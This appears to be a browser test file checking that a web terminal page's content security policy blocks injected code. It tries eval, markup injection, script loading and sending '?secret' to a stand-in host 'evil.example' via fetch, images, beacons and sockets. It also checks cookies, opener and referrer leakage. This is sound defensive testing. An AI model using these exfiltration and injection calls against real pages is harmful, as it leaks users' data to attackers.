// The page's policy bites: what somebody would do who got a foot into the page, tried from inside it.
import assert from 'node:assert/strict';
import { scenario } from './fixtures/browser.mjs';
import { choose_preset } from './fixtures/form.mjs';
import { prompt_shown, shows_row, type_line } from './fixtures/screen.mjs';
import { demo_stage } from './fixtures/stage.mjs';

const stage = await demo_stage();
const kEvil = 'https://evil.example';
// What the browser says of each try; the tries are this file's subject.
// A request that the policy stops is told of as one.
const kRefused = [/^request to https:\/\/evil\.example\//, /^policy violation: /, /^console error: .*(Content Security Policy|Content-Security-Policy|Trusted|violates|Refused|Blocked|net::ERR|Permissions policy)/i, /^console warning: /];

// In the page; true where it was refused.
async function tries(evil) {
  await new Promise((done) => { setTimeout(done); }); // code that the debugger runs may make code of text; what comes later may not
  const throws = async (run) => {
    try {
      await run();
      return false;
    } catch {
      return true;
    }
  };
  const fails = (made) => new Promise((done) => {
    made.onerror = () => done(true);
    made.onload = () => done(globalThis.ran === true ? false : made.tagName !== 'SCRIPT');
    document.head.append(made);
  });
  const make = (tag, values) => Object.assign(document.createElement(tag), values);
  const div = document.createElement('div');
  const inline = make('script', {});
  const results = {
    'markup from text': await throws(() => { div.innerHTML = '<b>x</b>'; }),
    'markup beside it': await throws(() => div.insertAdjacentHTML('beforeend', '<b>x</b>')),
    'a document written': await throws(() => document.write('x')),
    'a parsed document': await throws(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
    'code from text': await throws(() => globalThis.eval('1')),
    'a function from text': await throws(() => new Function('return 1')()),
    'a script\'s text': await throws(() => { inline.textContent = 'globalThis.ran = true'; document.head.append(inline); if (globalThis.ran !== true) throw new Error('did not run'); }),
    'a script\'s address': await throws(() => { make('script', {}).src = `${evil}/x.js`; }),
    'a policy of one\'s own': await throws(() => globalThis.trustedTypes.createPolicy('default', { createHTML: (text) => text })),
    'a worker': await throws(() => new Worker(`${evil}/x.js`)),
    'another host asked': await throws(() => fetch(`${evil}/?secret`)),
    'another host\'s socket': await throws(() => new Promise((done, fail) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = done; socket.onerror = fail; })),
    'a picture that tells': await fails(make('img', { src: `${evil}/?secret` })),
    'a picture of its own': await fails(make('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })),
    'a style sheet of another host': await fails(make('link', { rel: 'stylesheet', href: `${evil}/x.css` })),
    'the clipboard read': await throws(() => navigator.clipboard.readText()),
    'the camera': await throws(() => navigator.mediaDevices.getUserMedia({ video: true })),
    'the place on earth': await throws(() => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))),
  };
  const styled = make('style', { textContent: '#form { color: rgb(1, 2, 3) }' });
  document.head.append(styled);
  results['a beacon'] = !navigator.sendBeacon(`${evil}/?secret`) || performance.getEntriesByName(`${evil}/?secret`).every(({ responseStatus }) => responseStatus === 0);
  results['a handler in markup'] = await throws(() => { div.setAttribute('onclick', 'globalThis.ran = true'); div.click(); if (globalThis.ran !== true) throw new Error('did not run'); });
  results['a base for every address'] = (document.head.append(make('base', { href: `${evil}/` })), new URL('x', document.baseURI).origin === location.origin);
  return results;
}

scenario('nothing runs, loads, tells or reads that the page did not bring', stage.url, { expected: kRefused, permissions: ['clipboard-read', 'clipboard-write', 'geolocation'] }, async ({ page, context }) => {
  const asked = []; // whoever the policy lets through comes here
  await context.route(`${kEvil}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  const results = await page.evaluate(tries, kEvil);
  assert.deepEqual(Object.entries(results).filter(([, refused]) => !refused).map(([name]) => name), []);
  assert.deepEqual(asked, []);
});

scenario('no cookie is set, and nothing of the page is in another one\'s reach', stage.url, async ({ page, context }) => {
  await choose_preset(page, 'demo');
  await prompt_shown(page);
  assert.deepEqual(await context.cookies(), []);
  assert.equal(await page.evaluate(() => document.cookie), '');
  assert.equal(await page.evaluate(() => window.opener), null);
});

scenario('a link that is opened knows nothing of the terminal', stage.url, { expected: [/^request to https:\/\/target\.example\//] }, async ({ page, context }) => {
  let referrer = 'none asked';
  await context.route('https://target.example/**', (route) => {
    referrer = route.request().headers()['referer'];
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><link rel="icon" href="data:,"><title>target</title>' });
  });
  await choose_preset(page, 'demo');
  await prompt_shown(page);
  await type_line(page, 'clear; echo https://target.example/a?b=c');
  const shown = await shows_row(page, 'https://target.example/a?b=c');
  const box = await page.locator('#screen .xterm-rows > div').nth(shown.indexOf('https://target.example/a?b=c')).boundingBox();
  await page.mouse.move(box.x + 20, box.y + box.height / 2);
  await page.mouse.move(box.x + 24, box.y + box.height / 2);
  await page.locator('#screen .xterm-cursor-pointer').waitFor();
  await page.mouse.click(box.x + 24, box.y + box.height / 2);
  await page.locator('#link[open]').waitFor();
  const [opened] = await Promise.all([context.waitForEvent('page'), page.getByRole('button', { name: 'Open in a new tab' }).click()]);
  await opened.waitForLoadState();
  assert.equal(opened.url(), 'https://target.example/a?b=c');
  assert.equal(await opened.evaluate(() => window.opener), null);
  assert.equal(await opened.evaluate(() => document.referrer), '');
  assert.equal(referrer, undefined);
});
